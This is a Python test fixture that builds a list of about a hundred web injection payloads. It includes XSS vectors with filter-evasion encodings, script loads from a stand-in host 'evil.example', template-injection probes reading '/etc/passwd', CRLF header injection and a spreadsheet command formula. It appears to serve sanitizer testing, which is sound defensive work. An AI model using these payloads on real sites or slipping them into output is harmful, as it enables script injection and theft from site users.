"""A hundred ways to try to run something in a page."""

from __future__ import annotations

RUN = "window.pwned=1"
_BARE = [
    "<script>RUN</script>", "<ScRiPt>RUN</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=RUN>", "<img/src=`x`onerror=RUN>", "<svg onload=RUN>", "<svg/onload=RUN>",
    "<body onload=RUN>", "<iframe src=javascript:RUN>", "<iframe srcdoc='<script>parent.RUN</script>'>", "<object data=javascript:RUN>", "<embed src=javascript:RUN>", "<a href=javascript:RUN>x</a>",
    "<a href=' javascript:RUN'>x</a>", "<form action=javascript:RUN><button>", "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>", "<details open ontoggle=RUN>",
    "<video><source onerror=RUN>", "<audio src=x onerror=RUN>", "<marquee onstart=RUN>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "<math><mtext><script>RUN</script></math>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x>", "<template><script>RUN</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>", "<xmp><script>RUN</script></xmp>", "<plaintext>", "<!--<script>RUN</script>-->", "<![CDATA[<script>RUN</script>]]>", "<?xml version='1.0'?><script>RUN</script>",
]  # fmt: skip
_OUT_OF = ['"', "'", '">', "'>", "</title>", "</textarea>", "</option></datalist>", "</bdi></a>", "</div>", "-->", "</mark>", "</blockquote></figure>"]
_OTHER = [
    "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", "\x01javascript:RUN", "data:text/html,<script>RUN</script>", "vbscript:RUN", "//evil.example/x", "\\\\evil.example\\x",
    "{{7*7}}", "{{ self.__init__.__globals__ }}", "{% include '/etc/passwd' %}", "${RUN}", "#{RUN}", "<%= RUN %>", "' onmouseover=RUN x='", '" onmouseover=RUN x="', '" autofocus onfocus=RUN x="', "` onclick=RUN `", "x' accesskey='x' onclick='RUN",
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "%3Cscript%3ERUN%3C/script%3E", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\ufeff<script>RUN</script>", "\u202e<script>RUN</script>\u202c",
    "\u2028RUN//", "\u2029RUN//", "\x00<script>RUN</script>", "<scr\x00ipt>RUN</scr\x00ipt>", "＜script＞RUN＜/script＞", "<\u200bscript>RUN</script>", "\ud800<script>RUN</script>", "🙂<script>RUN</script>", "<script\r\n>RUN</script\r\n>", "]]>\"'><script>RUN</script>",
    "..%2f..%2f<script>RUN</script>", "../../static/<script>RUN</script>", "?ui=<script>RUN</script>", "#<img src=x onerror=RUN>", "a\r\nset-cookie: x=1", "a\r\n\r\n<script>RUN</script>", "';RUN//", '";RUN//', "</script><script>RUN//", "*/RUN/*", "=cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "<a href=# onclick=RUN>x</a>", "<p style=background:url(//evil.example)>", "<isindex type=image src=x onerror=RUN>",
]  # fmt: skip
PAYLOADS = [p.replace("RUN", RUN) for p in (*_BARE, *(f"{out}<script>RUN</script>" for out in _OUT_OF), *_OTHER)]
